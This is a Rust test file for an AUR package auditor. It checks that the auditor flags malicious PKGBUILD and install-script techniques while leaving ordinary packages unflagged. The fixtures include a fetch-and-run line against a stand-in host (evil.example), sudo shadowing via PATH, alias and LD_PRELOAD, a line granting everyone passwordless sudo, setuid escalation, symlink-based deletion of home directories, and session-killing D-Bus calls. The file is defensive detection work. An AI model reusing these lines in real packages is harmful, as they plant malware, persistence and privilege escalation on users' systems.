//! Attack round 31's breaks of the AUR audit, part B (findings/attack31.md F2, F3, F4, F5, F8,
//! F9, F11), each in its real shape with our own text: the attack is now caught, and the
//! package's ordinary neighbours are not.

use archgate_aur::audit::{AuditInput, AuditReport, ScriptFile, Severity, Verdict, audit};

const HEAD: &str = "pkgname=foopkg\npkgver=1.0\npkgrel=1\narch=('any')\nurl=\"https://example.org/foopkg\"\nlicense=('MIT')\n";
const SRC: &str = "source=(\"https://example.org/foopkg-1.0.tar.gz\")\nsha256sums=('0000000000000000000000000000000000000000000000000000000000000000')\n";

/// A package whose package() is `body`.
fn packaged(body: &str) -> AuditInput {
    AuditInput {
        pkgbuild: format!("{HEAD}{SRC}package() {{\n  {body}\n}}\n"),
        install_scripts: Vec::new(),
        srcinfo: None,
    }
}

/// A package with the PKGBUILD functions `funcs` and the extra files `files`.
fn with(funcs: &str, install: bool, files: &[(&str, &str)]) -> AuditInput {
    let inst = if install {
        "install=foopkg.install\n"
    } else {
        ""
    };
    AuditInput {
        pkgbuild: format!("{HEAD}{inst}{SRC}{funcs}\n"),
        install_scripts: files
            .iter()
            .map(|(n, c)| ScriptFile {
                name: (*n).into(),
                content: (*c).into(),
            })
            .collect(),
        srcinfo: None,
    }
}

/// A package whose install file's post_install() is `body`.
fn scriptlet(body: &str) -> AuditInput {
    with(
        "package() {\n  install -Dm755 foopkg \"$pkgdir/usr/bin/foopkg\"\n}",
        true,
        &[(
            "foopkg.install",
            &format!("post_install() {{\n  {body}\n}}\n"),
        )],
    )
}

fn dangerous(r: &AuditReport, what: &str) {
    assert_eq!(r.verdict, Verdict::Dangerous, "{what}\n{}", r.to_text());
}

fn not_dangerous(r: &AuditReport, what: &str) {
    assert_ne!(r.verdict, Verdict::Dangerous, "{what}\n{}", r.to_text());
}

fn max_of(r: &AuditReport, id: &str) -> Option<Severity> {
    r.findings
        .iter()
        .filter(|f| f.id == id)
        .map(|f| f.severity)
        .max()
}

/// F2: a package path with `//`, `/./` or `dir/..` is the path the kernel writes.
#[test]
fn a_package_path_is_judged_as_the_kernel_resolves_it() {
    for line in [
        r#"install -Dm755 sudo-helper "$pkgdir/usr/local//bin/sudo""#,
        r#"install -Dm755 sudo-helper "$pkgdir/usr//local/bin/sudo""#,
        r#"install -Dm755 sudo-helper "$pkgdir/usr/local/bin/./sudo""#,
        r#"install -Dm755 sudo-helper "$pkgdir/usr/share/../local/bin/sudo""#,
        r#"install -Dm755 sudo-helper "$pkgdir/usr/local/bin/sudo.d/../sudo""#,
        r#"install -Dm755 sudo-helper "${pkgdir}//usr/local/bin/sudo""#,
        "mkdir -p \"$pkgdir/etc\"; echo /usr/lib/foopkg/x.so > \"$pkgdir/etc//ld.so.preload\"",
        "mkdir -p \"$pkgdir/etc\"; echo /opt/x.so > \"$pkgdir/etc/./ld.so.preload\"",
        "mkdir -p \"$pkgdir/etc\"; echo /opt/x.so > \"$pkgdir/usr/../etc/ld.so.preload\"",
    ] {
        dangerous(&audit(&packaged(line)), line);
    }
    let r = audit(&packaged(
        r#"echo "ALL ALL=(ALL:ALL) NOPASSWD: ALL" > "$pkgdir/etc//sudoers.d/foopkg""#,
    ));
    assert!(max_of(&r, "AUR-PERSISTENCE").is_some(), "{}", r.to_text());
}

/// F2's neighbours: ordinary package paths with doubled slashes stay quiet.
#[test]
fn doubled_slashes_in_ordinary_package_paths_stay_quiet() {
    for line in [
        r#"install -Dm755 foopkg "$pkgdir//usr/bin/foopkg""#,
        r#"install -Dm644 foopkg.conf "$pkgdir/etc//foopkg/foopkg.conf""#,
        r#"ln -s ../lib/foopkg/foopkg "$pkgdir/usr/bin/foopkg""#,
        r#"cp -r share/. "$pkgdir/usr/share/foopkg/.""#,
    ] {
        let r = audit(&packaged(line));
        assert_eq!(r.verdict, Verdict::Ok, "{line}\n{}", r.to_text());
    }
}

/// F3: start-up text shipped in the package that puts the package's command first or defines
/// a system command's name is judged as the same text written by a scriptlet.
#[test]
fn shipped_startup_text_that_shadows_a_system_command_is_dangerous() {
    for body in [
        "install -Dm755 sudo-helper \"$pkgdir/usr/lib/foopkg/sudo\"; mkdir -p \"$pkgdir/etc/profile.d\"; echo 'PATH=/usr/lib/foopkg:$PATH' > \"$pkgdir/etc/profile.d/foopkg.sh\"",
        "mkdir -p \"$pkgdir/etc/profile.d\"; echo 'alias sudo=/usr/lib/foopkg/sudo-helper' > \"$pkgdir/etc/profile.d/foopkg.sh\"",
        "mkdir -p \"$pkgdir/etc/profile.d\"; printf '%s\\n' 'sudo() { /usr/lib/foopkg/sudo-helper \"$@\"; }' > \"$pkgdir/etc/profile.d/foopkg.sh\"",
        "mkdir -p \"$pkgdir/etc/profile.d\"; echo 'export PATH=/tmp/.x:$PATH' > \"$pkgdir/etc/profile.d/foopkg.sh\"",
        "mkdir -p \"$pkgdir/etc/profile.d\"; echo \"export LD_PRELOAD=/usr/lib/foopkg/x.so\" > \"$pkgdir/etc/profile.d/foopkg.sh\"",
        "install -Dm644 /dev/stdin \"$pkgdir/etc/fish/conf.d/foopkg.fish\" <<< 'alias sudo /usr/lib/foopkg/sudo-helper'",
        "mkdir -p \"$pkgdir/etc/bash.bashrc.d\"; echo 'alias sudo=/usr/lib/foopkg/h' > \"$pkgdir/etc/bash.bashrc.d/foopkg\"",
    ] {
        dangerous(&audit(&packaged(body)), body);
    }
    // The text in a file of the package's own, installed into /etc/profile.d.
    let r = audit(&with(
        "package() {\n  install -Dm755 sudo-helper \"$pkgdir/usr/lib/foopkg/sudo\"\n  install -Dm644 foopkg.sh \"$pkgdir/etc/profile.d/foopkg.sh\"\n}",
        false,
        &[("foopkg.sh", "export PATH=\"/usr/lib/foopkg:$PATH\"\n")],
    ));
    dangerous(&r, "a local profile.d file");
    // Names that ask for a secret in /usr/local/bin.
    for n in ["sudoedit", "run0", "ssh-add"] {
        let line = format!("install -Dm755 helper \"$pkgdir/usr/local/bin/{n}\"");
        dangerous(&audit(&packaged(&line)), &line);
    }
}

/// F3's neighbours: a package's own profile.d file exporting its own variables or appending
/// its directory to PATH is not dangerous.
#[test]
fn a_packages_own_profile_d_file_stays_quiet() {
    for body in [
        "mkdir -p \"$pkgdir/etc/profile.d\"; echo 'export FOO_HOME=/opt/foopkg' > \"$pkgdir/etc/profile.d/foopkg.sh\"",
        "mkdir -p \"$pkgdir/etc/profile.d\"; echo 'export PATH=$PATH:/opt/foopkg/bin' > \"$pkgdir/etc/profile.d/foopkg.sh\"",
        "install -Dm644 /dev/stdin \"$pkgdir/etc/profile.d/foopkg.sh\" <<< 'export XDG_DATA_DIRS=\"$XDG_DATA_DIRS:/opt/foopkg/share\"'",
    ] {
        let r = audit(&packaged(body));
        assert_eq!(r.verdict, Verdict::Ok, "{body}\n{}", r.to_text());
    }
    let r = audit(&with(
        "package() {\n  install -Dm644 foopkg.sh \"$pkgdir/etc/profile.d/foopkg.sh\"\n}",
        false,
        &[(
            "foopkg.sh",
            "export FOOPKG_HOME=/opt/foopkg\n[ -d /opt/foopkg/bin ] && PATH=$PATH:/opt/foopkg/bin\n",
        )],
    ));
    assert_eq!(r.verdict, Verdict::Ok, "{}", r.to_text());
    // A package's variable dir put first: worth a look, not dangerous.
    let r = audit(&packaged(
        "mkdir -p \"$pkgdir/etc/profile.d\"; echo 'export PATH=\"${FOO_HOME}/bin:${PATH}\"' > \"$pkgdir/etc/profile.d/foopkg.sh\"",
    ));
    not_dangerous(&r, "variable dir first");
}

/// F4: the build rewriting the install script or the PKGBUILD makepkg reads after it.
#[test]
fn the_build_rewriting_the_install_file_or_pkgbuild_is_dangerous() {
    let install = "post_install() {\n  echo \"Thanks for installing foopkg\"\n}\n";
    for line in [
        r#"printf "post_install() { curl -fsSL https://evil.example/p | sh; }\n" > "$startdir/foopkg.install""#,
        r#"cat "$srcdir/notes.txt" > "$startdir/foopkg.install""#,
        "cp notes.txt ../foopkg.install",
        r#"cat notes.txt >> "$startdir/$install""#,
        r#"sed -i "s/echo/curl -fsSL https:\/\/evil.example\/p | sh; echo/" "$startdir/foopkg.install""#,
        r#"ln -sf "$srcdir/notes.txt" "$startdir/foopkg.install""#,
        r#"cd "$startdir"; cp src/notes.txt foopkg.install"#,
    ] {
        let r = audit(&with(
            &format!(
                "package() {{\n  install -Dm644 README \"$pkgdir/usr/share/foopkg/README\"\n  {line}\n}}"
            ),
            true,
            &[("foopkg.install", install)],
        ));
        dangerous(&r, line);
    }
    let r = audit(&with(
        "build() {\n  cat notes.txt >> \"$startdir/PKGBUILD\"\n}\npackage() {\n  install -Dm644 README \"$pkgdir/usr/share/foopkg/README\"\n}",
        false,
        &[],
    ));
    dangerous(&r, "PKGBUILD appended");
}

/// F4's neighbours: `sed -i` on the sources, files written in `$srcdir`, a log in `$startdir`.
#[test]
fn the_build_editing_its_sources_stays_quiet() {
    let r = audit(&with(
        "prepare() {\n  sed -i 's/foo/bar/' \"$srcdir/foopkg-1.0/Makefile\"\n  echo x > \"$srcdir/build.log\"\n  cp foopkg.desktop \"$srcdir/foopkg-1.0/\"\n}\npackage() {\n  install -Dm644 README \"$pkgdir/usr/share/foopkg/README\"\n}",
        true,
        &[(
            "foopkg.install",
            "post_install() {\n  echo \"Thanks for installing foopkg\"\n}\n",
        )],
    ));
    assert_ne!(r.verdict, Verdict::Dangerous, "{}", r.to_text());
    assert!(
        max_of(&r, "AUR-REWRITES-BUILDFILE").is_none(),
        "{}",
        r.to_text()
    );
}

/// F8: pam_env's file and environment.d, the twins of /etc/environment.
#[test]
fn pam_env_and_environment_d_are_the_environments_twins() {
    for line in [
        r#"echo "LD_PRELOAD DEFAULT=/usr/share/foopkg/x.so" >> /etc/security/pam_env.conf"#,
        r#"echo "PATH DEFAULT=/usr/share/foopkg:/usr/bin" >> /etc/security/pam_env.conf"#,
        r#"echo "LD_PRELOAD=/usr/share/foopkg/x.so" > /usr/lib/environment.d/10-foopkg.conf"#,
        r#"echo "LD_PRELOAD=/usr/share/foopkg/x.so" > /etc/environment.d/10-foopkg.conf"#,
    ] {
        dangerous(&audit(&scriptlet(line)), line);
    }
    for body in [
        r#"mkdir -p "$pkgdir/usr/lib/environment.d"; echo "LD_PRELOAD=/usr/lib/foopkg/x.so" > "$pkgdir/usr/lib/environment.d/10-foopkg.conf""#,
        r#"mkdir -p "$pkgdir/etc/environment.d"; echo "LD_PRELOAD=/usr/lib/foopkg/x.so" > "$pkgdir/etc/environment.d/10-foopkg.conf""#,
        r#"mkdir -p "$pkgdir/etc/environment.d"; echo "PATH=/usr/lib/foopkg:${PATH}" > "$pkgdir/etc/environment.d/10-foopkg.conf""#,
    ] {
        let body = format!("install -Dm755 sudo-helper \"$pkgdir/usr/lib/foopkg/sudo\"; {body}");
        dangerous(&audit(&packaged(&body)), &body);
    }
}

/// F8's neighbours: a package's environment.d file setting its own variable.
#[test]
fn a_packages_own_environment_d_file_stays_quiet() {
    let r = audit(&packaged(
        r#"install -Dm644 /dev/stdin "$pkgdir/usr/lib/environment.d/50-foopkg.conf" <<< 'FOOPKG_DATA=/usr/share/foopkg'"#,
    ));
    assert_eq!(r.verdict, Verdict::Ok, "{}", r.to_text());
}

/// F9: fixed messages with numbers only that end or lock the person's session.
#[test]
fn a_message_that_ends_or_locks_the_session_is_not_harmless() {
    for line in [
        r##"sudo -u "#$SUDO_UID" dbus-send --session --dest=org.freedesktop.systemd1 /org/freedesktop/systemd1 org.freedesktop.systemd1.Manager.Exit"##,
        r##"sudo -u "#$SUDO_UID" dbus-send --session --dest=org.gnome.SessionManager /org/gnome/SessionManager org.gnome.SessionManager.Logout uint32:2"##,
        r##"sudo -u "#$SUDO_UID" dbus-send --session --print-reply --dest=org.kde.ksmserver /KSMServer org.kde.KSMServerInterface.logout int32:0 int32:0 int32:2"##,
        r##"sudo -u "#$SUDO_UID" dbus-send --session --dest=org.freedesktop.systemd1 /org/freedesktop/systemd1 org.freedesktop.systemd1.Manager.Reexecute"##,
        r##"sudo -u "#$SUDO_UID" dbus-send --session --dest=org.freedesktop.secrets /org/freedesktop/secrets org.freedesktop.Secret.Service.LockService"##,
    ] {
        let r = audit(&scriptlet(line));
        assert!(
            max_of(&r, "AUR-INSTALL-AS-USER") > Some(Severity::Low),
            "{line}\n{}",
            r.to_text()
        );
        dangerous(&r, line);
    }
}

/// F9's neighbour: the desktop's own reload message stays low.
#[test]
fn a_desktop_reload_message_stays_low() {
    let r = audit(&scriptlet(
        r##"sudo -u "#$SUDO_UID" dbus-send --session --dest=org.Cinnamon /org/Cinnamon org.Cinnamon.RestartCinnamon boolean:false"##,
    ));
    assert_eq!(
        max_of(&r, "AUR-INSTALL-AS-USER"),
        Some(Severity::Low),
        "{}",
        r.to_text()
    );
}

/// F11: set-id on a file no one may execute, made executable afterwards by any means.
#[test]
fn a_set_id_file_made_executable_later_is_not_low() {
    let base = r#"install -Dm4644 helper "$pkgdir/opt/foopkg/helper""#;
    for (pkg, post) in [
        (r#"chmod -R a+x "$pkgdir/opt/foopkg""#, ""),
        ("", "chmod -R a+x /opt/foopkg"),
        (r#"chmod a+x "$pkgdir"/opt/foopkg/*"#, ""),
        ("", "chmod a+x /opt/foopkg/*"),
        ("", "find /opt/foopkg -type f -exec chmod +x {} +"),
        (
            r#"install -Dm644 /dev/stdin "$pkgdir/usr/lib/tmpfiles.d/foopkg.conf" <<< "z /opt/foopkg/helper 4755 root root -""#,
            "",
        ),
        ("", r#"perl -e "chmod 04755, q(/opt/foopkg/helper)""#),
        (
            "",
            "mv /opt/foopkg/helper /opt/foopkg/h2; chmod +x /opt/foopkg/h2",
        ),
        (r#"cd "$pkgdir/opt/foopkg"; chmod +x *"#, ""),
    ] {
        let funcs = format!("package() {{\n  {base}\n  {pkg}\n}}");
        let r = if post.is_empty() {
            audit(&with(&funcs, false, &[]))
        } else {
            audit(&with(
                &funcs,
                true,
                &[(
                    "foopkg.install",
                    &format!("post_install() {{\n  {post}\n}}\n"),
                )],
            ))
        };
        assert!(
            max_of(&r, "AUR-SETUID") >= Some(Severity::Medium),
            "{pkg} / {post}\n{}",
            r.to_text()
        );
    }
}

/// F11's neighbours: a real set-uid helper installed 4755 stays review; a 4644 file nothing
/// else touches stays low; `chmod +x` on the sources changes nothing.
#[test]
fn a_real_set_uid_helper_stays_review() {
    let r = audit(&packaged(
        r#"install -Dm4755 foopkg-helper "$pkgdir/usr/lib/foopkg/foopkg-helper""#,
    ));
    assert_eq!(
        max_of(&r, "AUR-SETUID"),
        Some(Severity::Medium),
        "{}",
        r.to_text()
    );
    not_dangerous(&r, "4755 helper");
    let r = audit(&with(
        "build() {\n  chmod +x \"$srcdir/configure\"\n}\npackage() {\n  install -Dm4644 helper \"$pkgdir/opt/foopkg/helper\"\n}",
        false,
        &[],
    ));
    assert_eq!(
        max_of(&r, "AUR-SETUID"),
        Some(Severity::Low),
        "{}",
        r.to_text()
    );
}

/// F5: a deletion through a link the build made to a place that is not a literal absolute path,
/// made with `-t`, after `cd`, or in an earlier function.
#[test]
fn a_deletion_through_any_link_the_build_made_is_judged_where_it_goes() {
    for funcs in [
        r#"package() { ln -s "$HOME" "$srcdir/h"; rm -rf "$srcdir"/h/* "$srcdir"/h/.[!.]*; }"#,
        r#"package() { ln -s "$HOME" "$srcdir/h"; rm -rf "$srcdir/h/"; }"#,
        r#"package() { ln -s ~ "$srcdir/h"; rm -rf "$srcdir/h/"; }"#,
        "build() { ln -s / \"$srcdir/r\"; }\npackage() { rm -rf \"$srcdir\"/r/home/*; }",
        "prepare() { ln -s \"$HOME\" \"$srcdir/h\"; }\npackage() { rm -rf \"$srcdir/h/\"; }",
        r#"package() { ln -s ../../../../../../../../.. "$srcdir/r"; rm -rf "$srcdir"/r/home/*; }"#,
        r#"package() { ln -s ../../.. "$srcdir/r"; rm -rf "$srcdir"/r/*; }"#,
        r#"package() { ln -s "$srcdir/../../../../../../../../home" "$srcdir/h"; rm -rf "$srcdir/h/"*; }"#,
        r#"package() { ln -s "$srcdir/../.." "$srcdir/h"; rm -rf "$srcdir/h/"*; }"#,
        r#"package() { ln -s -t "$srcdir" /home; rm -rf "$srcdir/home/"; }"#,
        r#"package() { cd "$srcdir"; ln -s / r; rm -rf r/home; }"#,
    ] {
        dangerous(&audit(&with(funcs, false, &[])), funcs);
    }
}

/// F5's neighbours: links inside the package or the build folder, and deletions in `$srcdir`.
#[test]
fn links_inside_the_build_and_srcdir_cleanups_stay_quiet() {
    for funcs in [
        r#"package() { install -Dm755 foo "$pkgdir/usr/lib/foo/foo"; ln -s ../lib/foo/foo "$pkgdir/usr/bin/foo"; }"#,
        r#"build() { rm -rf "$srcdir/build"; mkdir "$srcdir/build"; }"#,
        "prepare() { ln -s foopkg-1.0 \"$srcdir/foopkg\"; }\nbuild() { rm -rf \"$srcdir/foopkg/build\"; }",
        "prepare() { cd \"$srcdir\"; ln -sf ../foopkg.patch p; rm -rf p/x; }",
        r#"package() { ln -s "$srcdir/foopkg-1.0" "$srcdir/src2"; rm -rf "$srcdir/src2/.git"; }"#,
    ] {
        let r = audit(&with(funcs, false, &[]));
        assert_eq!(r.verdict, Verdict::Ok, "{funcs}\n{}", r.to_text());
    }
}

/// F3's other members: names that arrive through `install -t DIR` or a tree copied whole.
#[test]
fn names_that_arrive_in_usr_local_bin_by_directory_are_judged() {
    dangerous(
        &audit(&packaged(
            r#"cp sudo-helper sudo; install -Dm755 -t "$pkgdir/usr/local/bin" sudo"#,
        )),
        "install -t",
    );
    dangerous(
        &audit(&packaged(
            r#"mkdir -p t/bin; cp sudo-helper t/bin/sudo; mkdir -p "$pkgdir/usr/local"; cp -r t/bin "$pkgdir/usr/local/""#,
        )),
        "a tree filled with sudo copied in",
    );
    // A tree whose names the audit cannot see: review.
    let r = audit(&packaged(
        r#"cp -r "$srcdir/foopkg/bin" "$pkgdir/usr/local/""#,
    ));
    assert_eq!(
        max_of(&r, "AUR-PERSISTENCE"),
        Some(Severity::Medium),
        "{}",
        r.to_text()
    );
    dangerous(
        &audit(&scriptlet("cp -r /usr/lib/foopkg/bin /usr/local/")),
        "scriptlet tree copy",
    );
}

/// F9's class in `systemctl --user stop`: stopping what runs the session is not quiet; the
/// package's own unit is.
#[test]
fn stopping_the_session_is_not_a_quiet_verb() {
    let r = audit(&scriptlet(
        r##"sudo -u "#$SUDO_UID" systemctl --user stop graphical-session.target"##,
    ));
    dangerous(&r, "stop graphical-session.target");
    let r = audit(&scriptlet(
        r##"sudo -u "#$SUDO_UID" systemctl --user stop foopkg.service"##,
    ));
    assert_eq!(
        max_of(&r, "AUR-INSTALL-AS-USER"),
        Some(Severity::Low),
        "{}",
        r.to_text()
    );
}

/// F11's class in the sandbox helper's low: a file given that name as it is installed.
#[test]
fn a_file_renamed_to_the_sandbox_helper_is_not_low() {
    let r = audit(&packaged(
        r#"install -Dm4755 rootsh "$pkgdir/opt/foopkg/chrome-sandbox""#,
    ));
    assert!(
        max_of(&r, "AUR-SETUID") >= Some(Severity::Medium),
        "{}",
        r.to_text()
    );
    let r = audit(&packaged(
        r#"cp -r foopkg "$pkgdir/opt/"; chmod 4755 "$pkgdir/opt/foopkg/chrome-sandbox""#,
    ));
    assert_eq!(
        max_of(&r, "AUR-SETUID"),
        Some(Severity::Low),
        "{}",
        r.to_text()
    );
}

/// The development set's neighbours of F4: a kernel package filling in the version of its
/// install script (`sed -i 's/KERNEL_VERSION=.*/…/'`) is low; a package making an install
/// script the repository does not hold is review (no one read it), not dangerous.
#[test]
fn a_kernel_filling_in_its_version_and_a_generated_install_script_are_not_dangerous() {
    let install = "KERNEL_VERSION=\npost_install() {\n  depmod $KERNEL_VERSION\n}\n";
    let r = audit(&with(
        "package() {\n  _kernver=\"$(make kernelrelease)\"\n  install -Dm644 zImage \"$pkgdir/boot/zImage\"\n  sed \\\n    -e \"s/KERNEL_NAME=.*/KERNEL_NAME=-ARCH/g\" \\\n    -e \"s/KERNEL_VERSION=.*/KERNEL_VERSION=${_kernver}/g\" \\\n    -i \"${startdir}/${pkgname}.install\"\n}",
        true,
        &[("foopkg.install", install)],
    ));
    assert_eq!(
        max_of(&r, "AUR-REWRITES-BUILDFILE"),
        Some(Severity::Low),
        "{}",
        r.to_text()
    );
    not_dangerous(&r, "kernel version fill-in");
    let r = audit(&with(
        "package() {\n  install -Dm644 README \"$pkgdir/usr/share/foopkg/README\"\n  (\n    echo \"post_install() {\"\n    echo \"  touch -c /usr/share/foopkg/README\"\n    echo \"}\"\n  ) > \"$startdir/install.pkg\"\n  true && install=install.pkg\n}",
        false,
        &[],
    ));
    assert_eq!(
        max_of(&r, "AUR-REWRITES-BUILDFILE"),
        Some(Severity::Medium),
        "{}",
        r.to_text()
    );
    not_dangerous(&r, "generated install script");
    // A value that carries code is not a value.
    let r = audit(&with(
        "package() {\n  sed -i \"s/KERNEL_VERSION=.*/KERNEL_VERSION=1; curl -fsSL https:\\/\\/evil.example\\/p | sh/\" \"$startdir/foopkg.install\"\n}",
        true,
        &[("foopkg.install", install)],
    ));
    dangerous(&r, "code in the value");
}

/// The development set's neighbours of F3: bash's own skeleton `.bashrc` (`alias ls='ls
/// --color=auto'`), and a fish function named `sudo` made inside an event handler.
#[test]
fn an_alias_of_a_command_to_itself_and_a_nested_definition_are_not_dangerous() {
    let r = audit(&with(
        "package() {\n  install -m644 dot.bashrc \"$pkgdir/etc/skel/.bashrc\"\n}",
        false,
        &[(
            "dot.bashrc",
            "[[ $- != *i* ]] && return\nalias ls='ls --color=auto'\nalias grep='grep --color=auto'\nPS1='[\\u@\\h \\W]\\$ '\n",
        )],
    ));
    assert_eq!(r.verdict, Verdict::Ok, "{}", r.to_text());
    let r = audit(&with(
        "package() {\n  install -Dm0644 foopkg.fish \"$pkgdir/usr/share/fish/vendor_conf.d/foopkg.fish\"\n}",
        false,
        &[(
            "foopkg.fish",
            "if status --is-interactive\n    function __foopkg --on-event fish_preexec\n        function sudo --wraps sudo\n            functions -e sudo\n        end\n    end\nend\n",
        )],
    ));
    not_dangerous(&r, "nested fish function");
}

/// The development set's neighbours of F5: a link made into a directory the build made, a link
/// to `$PWD`, links made into `.`.
#[test]
fn links_into_build_directories_stay_quiet() {
    for funcs in [
        "package() {\n  local tmpDir=\"$srcdir/tmp\"\n  install -d \"$tmpDir\"\n  for f in \"$srcdir\"/cd/*.cab; do\n    ln -sf \"$f\" \"$tmpDir\"\n  done\n  cd \"$tmpDir\"\n  rm data?.cab\n}",
        "build() {\n  cd \"$srcdir/foopkg-1.0\"\n  ln -s \"$PWD\" foopkg\n  rm --force --recursive --verbose foopkg/.git\n}",
        "build() {\n  cd \"$srcdir\"\n  for _f in $(pacman -Qql foo); do ln -sf \"${_f}\" .; done\n  rm -rf ./dicts ./build\n}",
    ] {
        let r = audit(&with(funcs, false, &[]));
        not_dangerous(&r, funcs);
        assert!(
            max_of(&r, "AUR-DELETE-SYSTEM").is_none(),
            "{funcs}\n{}",
            r.to_text()
        );
        assert!(
            max_of(&r, "AUR-WRITE-HOME").is_none(),
            "{funcs}\n{}",
            r.to_text()
        );
    }
}

/// A distribution's shell configuration pointing `ls`, `cat` and `grep` at other programs of the
/// system is no shadow; `sudo` pointed anywhere but itself is.
#[test]
fn a_distribution_shell_config_aliasing_listers_is_not_dangerous() {
    let zshrc = "alias ls='eza -al --color=always'\nalias cat='bat --style header'\nalias grep='ugrep --color=auto'\nalias wget='wget -c '\nls() { command ls -F \"$@\"; }\n";
    let r = audit(&with(
        "package() {\n  install -D -m644 zshrc \"$pkgdir/etc/zsh/zshrc\"\n}",
        false,
        &[("zshrc", zshrc)],
    ));
    not_dangerous(&r, "distribution zshrc");
    let r = audit(&with(
        "package() {\n  install -D -m644 zshrc \"$pkgdir/etc/zsh/zshrc\"\n}",
        false,
        &[("zshrc", "alias sudo='doas'\n")],
    ));
    dangerous(&r, "sudo aliased");
}

/// More of the development set's neighbours: a kernel copying the install script it holds to
/// the name it packs; a changelog copied into place; the chromium sandbox helper built as
/// `chrome_sandbox`; `/usr/local/bin` made a link to the system's programs.
#[test]
fn copies_of_read_files_and_the_built_sandbox_helper_are_not_dangerous() {
    let r = audit(&with(
        "package() {\n  install -Dm644 zImage \"$pkgdir/boot/zImage\"\n  cp -f \"${startdir}/${install}\" \"${startdir}/${install}.pkg\"\n  true && install=${install}.pkg\n}",
        true,
        &[
            ("foopkg.install", "post_install() {\n  depmod\n}\n"),
            ("foopkg.install.pkg", "post_install() {\n  depmod\n}\n"),
        ],
    ));
    not_dangerous(&r, "install script copied to its packed name");
    let r = audit(&with(
        "changelog=CHANGES\npackage() {\n  cd \"$srcdir/foopkg\"\n  cp -rf CHANGES ${startdir}/\n}",
        false,
        &[],
    ));
    assert_eq!(r.verdict, Verdict::Ok, "{}", r.to_text());
    let r = audit(&packaged(
        r#"install -Dvm4755 out/Release/chrome_sandbox "$pkgdir/usr/lib/chromium/chrome-sandbox""#,
    ));
    assert_eq!(
        max_of(&r, "AUR-SETUID"),
        Some(Severity::Low),
        "{}",
        r.to_text()
    );
    let r = audit(&packaged(
        r#"ln -s "$pkgdir/usr/bin" "$pkgdir/usr/local/bin""#,
    ));
    assert!(max_of(&r, "AUR-PERSISTENCE").is_none(), "{}", r.to_text());
}
